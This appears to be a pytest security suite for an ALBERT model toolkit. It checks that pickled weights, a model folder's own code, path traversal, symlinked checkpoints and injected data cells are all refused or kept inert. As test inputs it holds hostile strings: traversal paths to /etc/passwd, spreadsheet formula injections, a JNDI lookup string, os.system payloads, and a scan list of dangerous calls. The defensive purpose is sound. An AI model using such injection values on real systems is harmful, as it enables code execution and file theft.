"""Nothing from a data file or a model folder runs as code or writes outside where it should."""

from __future__ import annotations

import ast
import contextlib
import io
import json
import os
from pathlib import Path

import pytest

from albert_core.cli import build_parser, main
from albert_core.data.classification import read_classification
from albert_core.model_setup import resolve_init
from albert_core.predict import load_predictor
from albert_core.runs import ConfigError, RunConfig, checkpoints, new_run_dir, prune_checkpoints
from albert_core.tokenizer import load_tokenizer, save_tokenizer
from tests.core.helpers import save_tiny_model, sentiment_rows, write_csv

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory) -> Path:
    return save_tiny_model(tmp_path_factory.mktemp("model") / "m")


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(list(argv))
    return rc, out.getvalue(), err.getvalue()


def test_pickled_weights_are_refused_everywhere(tmp_path):
    folder = tmp_path / "pickled"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "albert", "architectures": ["AlbertForMaskedLM"]}))
    (folder / "pytorch_model.bin").write_bytes(b"\x80\x04K\x01.")
    refused = "pickle files are refused because loading them can run code"
    with pytest.raises(ConfigError, match=refused):
        resolve_init(str(folder))
    rc, _, err = _cli("predict", "--model", str(folder), "--text", "hi")
    assert rc == 2 and refused in err and "pytorch_model.bin" in err
    data = write_csv(tmp_path / "d.csv", sentiment_rows(20))
    rc, _, err = _cli("evaluate", "--model", str(folder), "--data", str(data))
    assert rc == 2 and refused in err
    rc, out, _ = _cli("train", "--train", str(data), "--init", str(folder), "--out", str(tmp_path / "r"), "--json")
    # refused before a run folder is made: nothing is left behind
    assert rc == 2 and refused in json.loads(out)["error"] and not (tmp_path / "r").exists()


def _python_files() -> list[Path]:
    return sorted(p for d in ("albert_core", "app") for p in (ROOT / d).rglob("*.py"))


def test_the_code_never_trusts_remote_code_or_unpickles():
    """A scan of the source: no trust_remote_code, torch.load only with weights_only=True, no
    pickle, eval, exec, yaml.load or shell=True."""
    found = []
    for path in _python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            where = f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
                if {"pickle", "dill", "cloudpickle", "marshal", "shelve"} & {str(n).split(".")[0] for n in names}:
                    found.append(f"{where}: imports a pickle module")
            if not isinstance(node, ast.Call):
                continue
            func = ast.unparse(node.func)
            kwargs = {k.arg: ast.unparse(k.value) for k in node.keywords if k.arg}
            if "trust_remote_code" in kwargs and kwargs["trust_remote_code"] != "False":
                found.append(f"{where}: trust_remote_code={kwargs['trust_remote_code']}")
            if func in ("eval", "exec", "yaml.load", "pickle.load", "pickle.loads"):
                found.append(f"{where}: calls {func}")
            if func == "torch.load" and kwargs.get("weights_only") != "True":
                found.append(f"{where}: torch.load without weights_only=True")
            if kwargs.get("shell") == "True":
                found.append(f"{where}: runs a shell")
    assert found == []


def test_a_model_folder_with_its_own_code_never_runs_it(model_dir, tmp_path):
    marker = tmp_path / "ran"
    cfg = json.loads((model_dir / "config.json").read_text())
    evil = tmp_path / "evil"
    evil.mkdir()
    for f in model_dir.iterdir():
        (evil / f.name).write_bytes(f.read_bytes())
    code = f"open({str(marker)!r}, 'w').write('x')\n"
    (evil / "modeling_evil.py").write_text(code)
    (evil / "configuration_evil.py").write_text(code)
    (evil / "tokenization_evil.py").write_text(code)
    auto = {
        "AutoConfig": "configuration_evil.EvilConfig",
        "AutoModelForSequenceClassification": "modeling_evil.EvilModel",
        "AutoTokenizer": ["tokenization_evil.EvilTokenizer", None],
    }
    (evil / "config.json").write_text(json.dumps({**cfg, "auto_map": auto}))
    tc = json.loads((evil / "tokenizer_config.json").read_text())
    (evil / "tokenizer_config.json").write_text(
        json.dumps({**tc, "auto_map": {"AutoTokenizer": auto["AutoTokenizer"]}})
    )
    out = load_predictor(evil).predict("a good film")
    assert out["label"] in ("neg", "pos")
    assert not marker.exists()


def test_file_names_in_a_tokenizer_config_never_reach_outside(model_dir, tmp_path):
    inside = tmp_path / "area" / "model"
    inside.mkdir(parents=True)
    for f in model_dir.iterdir():
        (inside / f.name).write_bytes(f.read_bytes())
    outside = tmp_path / "area" / "secret.txt"
    outside.write_text("secret")
    tc = json.loads((inside / "tokenizer_config.json").read_text())
    tc.update(vocab_file="../secret.txt", tokenizer_file="../../escaped.json", merges_file="/etc/passwd")
    (inside / "tokenizer_config.json").write_text(json.dumps(tc))
    tok = load_tokenizer(inside)
    assert tok("a good film")["input_ids"][0] == tok.cls_token_id
    dest = tmp_path / "area" / "saved"
    save_tokenizer(tok, dest)
    written = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    assert outside.read_text() == "secret"
    assert not (tmp_path / "escaped.json").exists()
    assert all(p.parts[:2] in (("area", "model"), ("area", "saved")) or p.name == "secret.txt" for p in written)


def test_checkpoint_links_are_never_followed_or_deleted_through(tmp_path):
    run = tmp_path / "run"
    (run / "checkpoints").mkdir(parents=True)
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "state.json").write_text("{}")
    os.symlink(precious, run / "checkpoints" / "step-1")
    for step in (2, 3, 4):
        (run / "checkpoints" / f"step-{step}").mkdir()
        (run / "checkpoints" / f"step-{step}" / "state.json").write_text("{}")
    assert [p.name for p in checkpoints(run)] == ["step-2", "step-3", "step-4"]
    prune_checkpoints(run, 1)
    assert (precious / "state.json").exists()
    assert [p.name for p in checkpoints(run)] == ["step-4"]


def test_run_names_stay_inside_the_runs_folder(tmp_path):
    for name in ("../../escape", "/etc/passwd", "..", "a/../../b", "C:\\Windows\\x"):
        path = new_run_dir(RunConfig(name=name, train_file="x.csv"), tmp_path / "runs")
        assert path.parent == tmp_path / "runs" and path.resolve().parent == (tmp_path / "runs").resolve()


def test_data_cells_stay_plain_text(tmp_path):
    marker = tmp_path / "ran"
    formulas = ["=1+1", '=HYPERLINK("http://x","y")', "@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3"]
    code = f"__import__('os').system('touch {marker}')"
    rows = [(f, "pos" if i % 2 else "neg") for i, f in enumerate(formulas)] + [(code, "pos"), ("{{7*7}}", "neg")]
    data = read_classification(write_csv(tmp_path / "d.csv", rows))
    assert data.texts == [r[0] for r in rows]
    lines = [json.dumps({"text": code, "label": "=1+1"}), json.dumps({"text": "${jndi:ldap://x}", "label": "b"})]
    jsonl = tmp_path / "d.jsonl"
    jsonl.write_text("\n".join(lines) + "\n")
    data = read_classification(jsonl)
    assert data.texts == [code, "${jndi:ldap://x}"] and data.labels == ["=1+1", "b"]
    assert not marker.exists()


def test_settings_from_the_command_line_are_parsed_as_json_only(tmp_path):
    from albert_core.cli import _config_from_args

    marker = tmp_path / "ran"
    args = build_parser().parse_args(
        [
            "train",
            "--train",
            "x.csv",
            "--out",
            "r",
            "--task",
            "pretrain",
            "--option",
            f"documents=__import__('os').system('touch {marker}')",
            "--option",
            "max_ngram=2",
        ]
    )
    c = _config_from_args(args)
    assert c.options["documents"].startswith("__import__") and c.options["max_ngram"] == 2
    assert not marker.exists()
